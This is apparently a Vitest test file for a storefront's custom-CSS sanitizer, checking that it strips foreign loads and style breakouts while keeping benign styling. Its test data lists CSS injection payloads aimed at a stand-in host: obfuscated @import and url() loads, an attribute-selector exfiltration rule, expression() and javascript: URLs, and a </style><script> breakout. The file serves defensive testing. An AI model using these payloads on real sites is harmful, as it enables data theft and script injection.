import { describe, expect, it } from 'vitest';
import { cssValueAllowed, sanitizeCss } from '../../src/lib/sanitize-css';

// The custom-CSS allow-list (src/lib/sanitize-css.ts): anything that could load from a host other than
// the store's own or the theme's asset host, or break out of the <style> element, is gone.
const OWN = { assetOrigins: ['https://assets.harbor.test'] };

const HOSTILE = [
  '@import url(https://evil.example/x.css);',
  '@import "https://evil.example/x.css";',
  '@IMPORT url(https://evil.example/x.css);',
  '@\\69mport url(https://evil.example/x.css);',
  'a{background:url(https://evil.example/a.png)}',
  'a{background:URL(https://evil.example/a.png)}',
  'a{background:url( "https://evil.example/a.png" )}',
  'a{background:url(//evil.example/a.png)}',
  'a{background:url(/\\evil.example/a.png)}',
  'a{background:u\\72l(https://evil.example/a.png)}',
  'a{background:\\75rl(https://evil.example/a.png)}',
  'a{background:image-set("https://evil.example/a.png" 1x)}',
  'a{background:-webkit-image-set(url(https://evil.example/a.png) 1x)}',
  'a{background:image-set(url(/ok.png) 1x, url(https://evil.example/a.png) 2x)}',
  'a{background:src("https://evil.example/a.png")}',
  'a{background:cross-fade(url(https://evil.example/a.png), red)}',
  'a{background:element(#x)}',
  'a{--bg:url(https://evil.example/a.png)} b{background:var(--bg)}',
  '@font-face{font-family:x;src:url(https://evil.example/f.woff2)}',
  '@media screen{a{background:url(https://evil.example/a.png)}}',
  '@supports (display:grid){a{background:url(https://evil.example/a.png)}}',
  '@keyframes k{from{background:url(https://evil.example/a.png)}}',
  'input[value^="a"]{background:url(https://evil.example/?a)}',
  'a{behavior:url(https://evil.example/x.htc)}',
  'a{-moz-binding:url(https://evil.example/x.xml#x)}',
  'a{width:expression(alert(1))}',
  'a{background:url(javascript:alert(1))}',
  'a{background:url(data:image/svg+xml;utf8,<svg onload=alert(1)>)}',
  'a{content:"</style><script>alert(1)</script>"}',
  'a{list-style:url(https://evil.example/dot.png)}',
  'a{cursor:url(https://evil.example/c.cur),auto}',
  'a{mask-image:url(https://evil.example/m.png)}',
  'a{border-image:url(https://evil.example/b.png) 30}',
];

describe('custom CSS allow-list', () => {
  it.each(HOSTILE)('%s loads nothing foreign and stays in its element', (css) => {
    const out = sanitizeCss(css, OWN);
    expect(out).not.toMatch(/evil\.example|<|@import|image-set|expression|javascript:|binding|behavior|\bsrc\(|cross-fade|element\(|svg/i);
  });

  it('keeps ordinary styling, same-site and asset-host images, inline raster images', () => {
    const css = [
      '.hero__title{letter-spacing:.05em}',
      '.a{background:url(/images/a.png) no-repeat}',
      '.b{background-image:url("https://assets.harbor.test/bg.jpg")}',
      '.c{background:linear-gradient(90deg,#fff 0,rgba(0,0,0,.5) 100%);width:calc(100% - 2rem)}',
      '.d{--accent:#0b2545;color:var(--accent)}',
      '@media (max-width:767px){.e{display:none}}',
      '@font-face{font-family:Brand;src:url(/fonts/brand.woff2) format("woff2")}',
      '.f{background:url(data:image/png;base64,iVBORw0KGgo=)}',
      '.g:not(.h)>.i::before{content:"→"}',
    ].join('\n');
    const out = sanitizeCss(css, OWN);
    for (const kept of ['.hero__title{letter-spacing:.05em}', 'url(/images/a.png)', 'https://assets.harbor.test/bg.jpg', 'linear-gradient', 'calc(100% - 2rem)', 'var(--accent)', '@media', '@font-face', 'data:image/png;base64', '.g:not(.h)>.i::before']) {
      expect(out).toContain(kept);
    }
  });

  it('drops the asset host when the build has none', () => {
    expect(sanitizeCss('.b{background-image:url(https://assets.harbor.test/bg.jpg)}')).not.toContain('assets.harbor.test');
  });

  it('theme values: colours pass, functions outside the list and url() do not', () => {
    for (const ok of ['#0B2545', 'rgb(1, 2, 3)', 'hsl(210 50% 40%)', '1.5rem', 'bold']) expect(cssValueAllowed(ok), ok).toBe(true);
    for (const bad of ['url(/x.png)', 'src(x)', 'image-set(x 1x)', 'expression(alert(1))', 'u\\72l(x)', 'element(#x)']) expect(cssValueAllowed(bad), bad).toBe(false);
  });
});
